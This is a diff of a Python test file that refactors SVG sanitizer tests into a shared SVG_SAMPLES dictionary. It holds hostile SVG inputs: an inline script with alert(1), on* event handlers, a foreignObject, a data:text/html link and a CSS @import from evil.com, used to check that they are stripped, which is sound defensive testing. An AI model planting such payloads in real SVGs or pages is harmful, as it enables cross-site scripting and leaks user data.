@@ -60,11 +60,20 @@ def test_ssrf_valid_https():
 
 # --- SVG Sanitizer Tests ---
 
+# Sanitizer sample inputs, built once at import time.
+SVG_SAMPLES: dict[str, bytes] = {
+    "script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="10" height="10"/></svg>',
+    "event_handlers": b'<svg xmlns="http://www.w3.org/2000/svg"><rect onload="x()" onclick="y()" width="10" height="10"/></svg>',
+    "foreign_object": b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">evil</body></foreignObject><rect width="10" height="10"/></svg>',
+    "data_uri": b'<svg xmlns="http://www.w3.org/2000/svg"><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>click</text></a></svg>',
+    "css_import": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.com/steal.css); rect { fill: red; }</style><rect width="10" height="10"/></svg>',
+    "clean": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="100" height="100" fill="red"/><circle cx="50" cy="50" r="25" fill="blue"/></svg>',
+}
+
 
 def test_svg_script_stripped():
     """<script> tags removed from SVG."""
-    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="10" height="10"/></svg>'
-    result = sanitize_svg(svg)
+    result = sanitize_svg(SVG_SAMPLES["script"])
     assert b"<script>" not in result
     assert b"alert" not in result
     assert b"rect" in result
@@ -72,8 +81,7 @@ def test_svg_script_stripped():
 
 def test_svg_event_handlers_stripped():
     """on* event handler attributes removed."""
-    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><rect onload="x()" onclick="y()" width="10" height="10"/></svg>'
-    result = sanitize_svg(svg)
+    result = sanitize_svg(SVG_SAMPLES["event_handlers"])
     assert b"onload" not in result
     assert b"onclick" not in result
     assert b"rect" in result
@@ -81,31 +89,27 @@ def test_svg_event_handlers_stripped():
 
 def test_svg_foreign_object_stripped():
     """<foreignObject> removed."""
-    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">evil</body></foreignObject><rect width="10" height="10"/></svg>'
-    result = sanitize_svg(svg)
+    result = sanitize_svg(SVG_SAMPLES["foreign_object"])
     assert b"foreignObject" not in result
     assert b"foreignobject" not in result.lower()
 
 
 def test_svg_data_uri_stripped():
     """data:text/html in href removed."""
-    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>click</text></a></svg>'
-    result = sanitize_svg(svg)
+    result = sanitize_svg(SVG_SAMPLES["data_uri"])
     assert b"data:text/html" not in result
 
 
 def test_svg_css_import_stripped():
     """@import url() rules stripped from <style> elements."""
-    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.com/steal.css); rect { fill: red; }</style><rect width="10" height="10"/></svg>'
-    result = sanitize_svg(svg)
+    result = sanitize_svg(SVG_SAMPLES["css_import"])
     assert b"@import" not in result
     assert b"rect" in result
 
 
 def test_svg_valid_content_preserved():
     """Non-malicious SVG content intact after sanitization."""
-    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="100" height="100" fill="red"/><circle cx="50" cy="50" r="25" fill="blue"/></svg>'
-    result = sanitize_svg(svg)
+    result = sanitize_svg(SVG_SAMPLES["clean"])
     assert b"rect" in result
     assert b"circle" in result
     assert (